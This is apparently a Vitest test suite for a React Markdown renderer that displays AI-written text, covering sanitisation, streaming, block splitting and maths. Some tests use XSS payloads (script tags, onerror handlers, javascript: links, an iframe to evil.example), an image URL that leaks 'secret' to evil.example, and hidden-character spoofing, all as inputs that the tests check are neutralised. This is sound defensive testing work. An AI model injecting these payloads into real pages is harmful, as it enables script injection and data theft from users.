import { readFileSync } from "node:fs";
import { join } from "node:path";
import { act } from "react";
import { createRoot, type Root } from "react-dom/client";
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { oneKindOfMaths, splitBlocks } from "./blocks";
import { loadMarkdown, Markdown } from "./markdown";

let place: HTMLElement;
let root: Root;
beforeAll(loadMarkdown);
beforeEach(() => {
  vi.stubGlobal("IS_REACT_ACT_ENVIRONMENT", true);
  place = document.body.appendChild(document.createElement("div"));
  root = createRoot(place);
});
afterEach(async () => {
  await act(async () => root.unmount());
  place.remove();
});

async function show(text: string, props: Partial<Parameters<typeof Markdown>[0]> = {}) {
  await act(async () => root.render(<Markdown text={text} {...props} />));
  return place;
}

describe("a model's text", () => {
  it("never brings scripts, handlers or raw HTML into the page", async () => {
    const page = await show(
      [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
        "<iframe src='https://evil.example'></iframe>",
        "<style>body{display:none}</style>",
        "<svg><script>alert(1)</script></svg>",
      ].join("\n\n"),
    );
    expect(page.querySelector("script, img, iframe, style, svg, [onerror], [onclick]")).toBeNull();
  });

  it("is left alone by a browser's translation until it is written", async () => {
    const page = readFileSync(join(import.meta.dirname, "../../index.html"), "utf8");
    expect(page).toContain('<html lang="en" translate="no">');
    const translated = () => place.querySelector(".markdown")?.getAttribute("translate");
    await show("Eine **hal", { streaming: true });
    expect(translated()).toBe("no");
    await show("Eine **halbe** Antwort");
    expect(translated()).toBe("yes");
  });

  it("never links to a script", async () => {
    const page = await show(
      "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x) <javascript:alert(1)>",
    );
    for (const link of page.querySelectorAll("a")) {
      expect(link.getAttribute("href") ?? "").not.toMatch(/^\s*(javascript|data|vbscript):/i);
    }
  });

  it("opens links apart and tells them nothing", async () => {
    const link = (await show("[a](https://example.org)")).querySelector("a");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
    expect(link?.getAttribute("target")).toBe("_blank");
  });

  it("turns images into links, so that nothing is fetched by itself", async () => {
    const page = await show("![a cat](https://evil.example/?q=secret)");
    expect(page.querySelector("img")).toBeNull();
    expect(page.textContent).toContain("Image, not loaded: a cat");
  });

  it("has no heading where a table's corner is empty", async () => {
    const page = await show("| | now |\n|---|---|\n| hiring | easy |");
    expect([...page.querySelectorAll("th")].map((cell) => cell.textContent)).toEqual(["now"]);
    expect(page.querySelector("thead td")).not.toBeNull();
  });

  it("keeps tables, with a box that scrolls", async () => {
    const page = await show("| a | b |\n|---|---|\n| 1 | 2 |");
    expect(page.querySelector("[role=group] table td")?.textContent).toBe("1");
  });

  it("keeps line breaks, sub- and superscripts and keys, and shows other HTML as it was written", async () => {
    const page = await show(
      'H<sub>2</sub>O, x<SUP>2</SUP>, <kbd onclick="x">A</kbd>, <kbd>Ctrl</kbd><br/>and <b>bold</b> <sub>open\n\n| a<br>b |\n|---|\n| c<br />d |\n\n<div>\n  <p>Text</p>\n</div>\n\n<!-- gone -->',
    );
    expect(page.querySelector("sub")?.textContent).toBe("2");
    expect(page.querySelector("sup")?.textContent).toBe("2");
    expect([...page.querySelectorAll("kbd")].map((key) => key.textContent)).toEqual(["Ctrl"]);
    expect(page.querySelectorAll("td br, th br")).toHaveLength(2);
    expect(page.textContent).toContain('<kbd onclick="x">A');
    expect(page.textContent).toContain("<b>bold</b> <sub>open");
    expect(page.textContent).toContain("<p>Text</p>");
    expect(page.textContent).not.toContain("gone");
    expect(page.querySelector("b, [onclick]")).toBeNull();
  });

  it("marks hidden characters where they stand, and has no trace of them", async () => {
    const page = await show("Sign in as ad\u200Bmin, `a\u202Eb` 👩‍👩‍👧‍👦");
    const marks = [...page.querySelectorAll(".md-hidden")];
    expect(marks.map((mark) => mark.getAttribute("data-mark"))).toEqual(["U+200B", "U+202E"]);
    expect(marks[0]?.getAttribute("aria-label")).toBe("Hidden characters: U+200B");
    expect(page.textContent).toBe("Sign in as admin, ab 👩‍👩‍👧‍👦");
  });

  it("begins its headings below the page's own", async () => {
    const page = await show("# One\n\n## Two\n\n### Three");
    expect(page.querySelector("h1, h2, h3, h4")).toBeNull();
    expect(page.querySelectorAll("h5, h6")).toHaveLength(3);
  });

  it("puts names in the place of labels, outside code", async () => {
    const names = { "Response A": "Basil" };
    const page = await show("Response A beats Response B. `Response A`", { names });
    expect(page.querySelector("strong")?.textContent).toBe("Basil");
    expect(page.textContent).toContain("beats Response B");
    expect(page.querySelector("code")?.textContent).toBe("Response A");
  });
});

describe("a text that is still being written", () => {
  it("shows an unclosed fence as code at once", async () => {
    const page = await show("Look:\n\n```rust\nfn main() {", { streaming: true });
    expect(page.querySelector("pre code")?.textContent).toBe("fn main() {");
  });

  it("shows unclosed marks as they will be", async () => {
    const page = await show("This is **bol", { streaming: true });
    expect(page.querySelector("strong")?.textContent).toBe("bol");
    expect(page.textContent).not.toContain("*");
  });

  it("leaves finished blocks as they are while the last one grows", async () => {
    const start = "# Head\n\nFirst paragraph.\n\n- one\n- two\n\nLast";
    const page = await show(start, { streaming: true });
    const before = [...page.querySelectorAll(".markdown > *")];
    const texts: string[] = [];
    const watch = new MutationObserver((changes) => {
      for (const { target } of changes) texts.push(target.textContent ?? "");
    });
    watch.observe(page, { subtree: true, childList: true, characterData: true });
    await show(`${start} words`, { streaming: true });
    watch.takeRecords();
    watch.disconnect();
    const after = [...page.querySelectorAll(".markdown > *")];
    expect(after).toHaveLength(before.length);
    for (const [at, element] of before.slice(0, -1).entries()) expect(after[at]).toBe(element);
    expect(texts.every((text) => text.includes("Last"))).toBe(true);
    expect(after.at(-1)?.textContent).toBe("Last words");
  });
});

describe("blocks", () => {
  it("split a long text, and together are the text", () => {
    const text = "# A\n\nb\n\n```js\n1\n\n2\n```\n\n- c\n- d\n\n> e\n";
    const blocks = splitBlocks(text).map((block) => block.text);
    expect(blocks.length).toBeGreaterThan(4);
    const lines = (all: string) => all.replace(/\n+/g, "\n").trim();
    expect(lines(blocks.join("\n"))).toBe(lines(text.replace(/```.*\n/g, "")));
  });

  it("that are far down are put together, so that thousands of them are few elements", async () => {
    const text = Array.from({ length: 10_000 }, (_, at) => `\`\`\`rust\nlet a = ${at};\n\`\`\``);
    const page = await show(text.join("\n\n"));
    expect(page.querySelectorAll(".md-far").length).toBeGreaterThan(100);
    expect(page.querySelectorAll("*").length).toBeLessThan(1_500);
    expect(page.textContent).toContain("let a = 9999;");
  });

  it("are printed whole: long tables with all their rows, and far parts as what they are", async () => {
    const line = (cell: string) => `|${` ${cell} |`.repeat(8)}`;
    const rows = Array.from({ length: 100 }, (_, n) => line(`r${n}`));
    const table = [line("h"), line("---"), ...rows].join("\n");
    const far = Array.from({ length: 60 }, (_, n) => `Paragraph **${n}**.`).join("\n\n");
    const page = await show(`${table}\n\n${far}`);
    const shown = () => page.querySelectorAll("tbody tr").length;
    expect(shown()).toBe(75);
    expect(page.textContent).toContain("**59**");
    await act(async () => dispatchEvent(new Event("beforeprint")));
    expect(shown()).toBe(100);
    expect(page.textContent).not.toContain("**59**");
    await act(async () => dispatchEvent(new Event("afterprint")));
    expect(shown()).toBe(75);
  });

  it("keep link definitions with the blocks that use them", async () => {
    const page = await show("See [the site][s].\n\nMore.\n\n[s]: https://example.org");
    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://example.org/");
  });
});

describe("maths", () => {
  it("is read in all the ways models write it", () => {
    expect(oneKindOfMaths("\\(x^2\\) and $a_1$")).toBe("$$x^2$$ and $$a_1$$");
    expect(oneKindOfMaths("\\[ x \\]").trim()).toBe("$$\nx\n$$");
  });
  it("stands by itself where a line is nothing else, in lists and quotations too", async () => {
    expect(oneKindOfMaths("So $$x$$ is.\n$$y$$\n- $$z$$\n> $$w$$")).toBe(
      "So $$x$$ is.\n$$\ny\n$$\n- $$\n  z\n  $$\n> $$\n> w\n> $$",
    );
    const page = await show("So:\n\n$$a^2$$\n\nand $$b$$.\n\n- $$c$$");
    expect(page.querySelectorAll(".maths-display")).toHaveLength(2);
    expect(page.querySelectorAll(".maths:not(.maths-display)")).toHaveLength(1);
    expect(page.querySelector("li .maths-display")).not.toBeNull();
  });
  it("is not seen in prices or code", () => {
    const text = "It costs $5 to $10, see `$x^2$`.\n```sh\necho $A_B$C_D\n```";
    expect(oneKindOfMaths(text)).toBe(text);
  });
});
